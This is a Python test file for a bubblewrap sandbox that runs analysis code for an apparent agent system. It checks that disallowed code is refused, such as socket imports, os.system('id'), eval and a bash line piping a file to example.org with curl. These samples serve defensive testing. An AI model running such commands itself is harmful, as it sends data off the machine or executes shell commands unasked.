"""What code comes to, and what is not run at all."""

from __future__ import annotations

import pytest

from agents.analyses.sandbox import bubblewrap, offering
from agents.analyses.sandbox.contract import CodeJob, CodeRan, CodeRefused, CodeUnavailable
from agents.analyses.sandbox.denials import denial_of
from agents.analyses.sandbox.files import files_of
from agents.analyses.sandbox.offering import NOT_INSTALLED, CodeRunner, sandbox_problem
from agents.analyses.sandbox.syscalls import syscall_filter
from retrieval.tables.contract import DataTable, TableColumn
from tests.unit.agents.analyses.sandbox.sandboxed import confined, require_sandbox

AGES = DataTable("", (TableColumn("age", ("61", "")), TableColumn('the "arm"', ("A", "B"))))


@pytest.mark.parametrize(
    ("language", "code", "why"),
    [
        ("python", "import socket", "`socket` may not be used: there is no network."),
        ("python", "from urllib.request import urlopen", "`urllib` may not be used"),
        ("python", "import os as o\no.system('id')", "`os.system`"),
        ("python", "from os import popen\npopen('id')", "`os.popen`"),
        ("python", "eval('1')", "`eval` may not be used: it may load no other code."),
        ("python", "import pandas as pd\npd.read_pickle('x')", "`pandas.read_pickle`"),
        ("r", "x <- system('id')", "`system`"),
        ("bash", "cat a | curl -d @- example.org", "`curl`"),
        ("python", "x = 1\n" * 20_000, "longer than"),
    ],
)
def test_code_that_uses_what_it_may_not_is_refused(language: str, code: str, why: str) -> None:
    refused = denial_of(CodeJob(language=language, code=code))  # type: ignore[arg-type]
    assert isinstance(refused, CodeRefused)
    assert why in refused.reason


@pytest.mark.parametrize(
    "code",
    [
        "import pandas as pd\nframe = pd.read_csv('table.csv')\nframe.eval('a + b')",
        "import os\nsignal = os.path.exists('table.csv')\ncode, socket = 1, 2\nprint(socket)",
        "import re\nre.compile('x')",
        "def broken(:",
    ],
)
def test_an_analysis_is_not_refused(code: str) -> None:
    assert denial_of(CodeJob(language="python", code=code)) is None


async def test_a_table_comes_in_and_numbers_and_a_picture_come_out() -> None:
    require_sandbox()
    code = (
        "import csv\n"
        "rows = list(csv.DictReader(open('table.csv')))\n"
        "print(rows)\n"
        "open('picture.png', 'wb').write(b'drawn')\n"
        "raise SystemExit(3)\n"
    )
    job = CodeJob(language="python", code=code, files=files_of((AGES,)))
    assert job.digests[0][0] == "table.csv"
    out = await CodeRunner().run(job)
    assert isinstance(out, CodeRan)
    assert out.printed == "[{'age': '61', 'the \"arm\"': 'A'}, {'age': '', 'the \"arm\"': 'B'}]\n"
    assert (out.status, out.picture) == (3, b"drawn")


async def test_a_language_that_is_not_installed_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(bubblewrap.ENVIRONMENT, "PATH", "/nowhere")  # type: ignore[arg-type]
    found = await CodeRunner().run(CodeJob(language="r", code="1"))
    assert found == CodeUnavailable("R is not installed on this machine.")


def test_without_bubblewrap_a_sentence_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "/nowhere")
    assert sandbox_problem() == NOT_INSTALLED
    assert offering.ONLY_FIXED in NOT_INSTALLED


def test_several_tables_have_numbers() -> None:
    assert list(files_of((AGES, AGES))) == ["table1.csv", "table2.csv"]
    assert files_of((AGES,))["table.csv"] == b'age,"the ""arm"""\n61,A\n,B\n'


def test_a_machine_whose_calls_are_not_known_gets_no_filter() -> None:
    assert len(syscall_filter("x86_64")) % 8 == 0
    assert len(syscall_filter("aarch64")) == len(syscall_filter("x86_64"))
    assert syscall_filter("sparc") == b""


def test_a_broken_launch_is_told() -> None:
    require_sandbox()
    found = confined("true", files={"code.sh/within": b""})
    assert isinstance(found, CodeUnavailable)
    assert found.reason.startswith("bubblewrap could not start here")
